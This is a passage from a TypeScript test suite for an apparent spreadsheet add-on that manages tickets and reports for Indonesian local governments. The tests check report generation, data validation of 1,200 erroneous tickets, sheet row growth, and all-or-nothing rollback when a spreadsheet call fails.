  it('Generate Report with 1,200 data errors in the month grows Validasi once and lists every finding', () => {
    const workbook = withInvalidTickets(1200);
    const expected = coreSheets(workbook, '2025-01').find((s) => s.name === 'Validasi');
    const grid = expected && sheetGrid(expected);
    expect(grid?.numRows).toBeGreaterThan(1200);
    const { env, addon } = setUp(workbook);
    const message = String(addon.generateReport?.('2025-01'));
    expect(message).toContain('Laporan Januari 2025 selesai');
    const validasi = env.spreadsheet.sheet('Validasi');
    const links = new Set(expected?.links.map((l) => `${l.row},${l.col}`));
    const shown = (values: readonly (readonly unknown[])[]) =>
      values.map((row, r) => row.map((value, c) => (links.has(`${r},${c}`) ? 'link' : value)));
    expect(shown(writtenValues(validasi, grid?.numRows ?? 0, grid?.numColumns ?? 0))).toEqual(
      shown(grid?.values ?? []),
    );
    expect(validasi.formulas.size).toBe(expected?.links.length);
    // Grown exactly to the grid, in one call; the other tabs fit and are not grown.
    expect(validasi.maxRows).toBe(grid?.numRows);
    const grown = env.log.calls.filter((c) => c.method === 'insertRowsAfter' || c.method === 'insertColumnsAfter');
    expect(grown.map((c) => [c.method, ...c.args])).toEqual([['insertRowsAfter', 1000, (grid?.numRows ?? 0) - 1000]]);
    expect(env.spreadsheet.sheets.map((s) => s.name).slice(-3)).toEqual(GENERATED);
  });

  it('Validasi Data with 1,200 data errors in the previous month grows the new Validasi once', () => {
    // Validasi Data checks the calendar month before today (WIB), so the errors are dated in it.
    const now = new Date(Date.now() + 7 * 3600_000);
    const { env, addon } = setUp(
      withInvalidTickets(1200, new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() - 1, 15, 10))),
    );
    expect(String(addon.validateData?.())).toMatch(
      /^1\.?2\d\d temuan \(1\.?2\d\d galat\) untuk .+\. Lihat tab Validasi\.$/,
    );
    const validasi = env.spreadsheet.sheet('Validasi');
    expect(validasi.cells.length).toBeGreaterThan(1200);
    expect(validasi.maxRows).toBe(validasi.cells.length);
    expect(breakdown(env.log.calls)['Sheet.insertRowsAfter']).toBe(1);
  });

  it('a failing grow keeps the all-or-nothing rule: the previous tabs stay as they were', () => {
    const { env, addon } = setUp(withInvalidTickets(1200));
    addon.generateReport?.('2025-01');
    const before = GENERATED.map((name) => snapshot(env.spreadsheet.sheet(name)));
    env.log.failWhen = (call) => (call.method === 'insertRowsAfter' ? 'Service Spreadsheets failed' : null);
    const message = String(addon.generateReport?.('2025-01'));
    expect(message).toContain('tab laporan sebelumnya tidak diubah');
    expect(GENERATED.map((name) => snapshot(env.spreadsheet.sheet(name)))).toEqual(before);
    expect(env.spreadsheet.sheets.filter((s) => s.name.endsWith(' (sedang dibuat)'))).toEqual([]);
  });

  it('the sample fits new tabs: Generate Report grows none', () => {
    const { env, addon } = setUp();
    addon.generateReport?.('2025-01');
    const counts = breakdown(env.log.calls);
    expect([counts['Sheet.insertRowsAfter'], counts['Sheet.insertColumnsAfter']]).toEqual([undefined, undefined]);
  });

  it('Buat Template on a fresh spreadsheet grows each new tab once so its 2,000 rows of drop-downs fit', () => {
    const { env, addon } = setUp({ Sheet1: [] });
    const message = String(addon.createTemplate?.());
    expect(message).toMatch(/^Tab ditambahkan: Tiket, /);
    // The list of 552 Pemda fits a new tab's 1,000 rows; every tracking tab grows to 2,001 once.
    const added = env.spreadsheet.sheets.filter((s) => s.name !== 'Sheet1' && s.name !== 'Daftar Pemda');
    expect(added.length).toBeGreaterThan(15);
    for (const sheet of added) expect([sheet.name, sheet.maxRows]).toEqual([sheet.name, 2001]);
    expect(env.spreadsheet.sheet('Daftar Pemda').maxRows).toBe(1000);
    expect(env.spreadsheet.sheet('Tiket').validations.get('2,2,2000,1')?.values).toContain('WhatsApp');
    expect(breakdown(env.log.calls)['Sheet.insertRowsAfter']).toBe(added.length);
    expect(breakdown(env.log.calls)['Sheet.insertColumnsAfter']).toBeUndefined();
  });
});
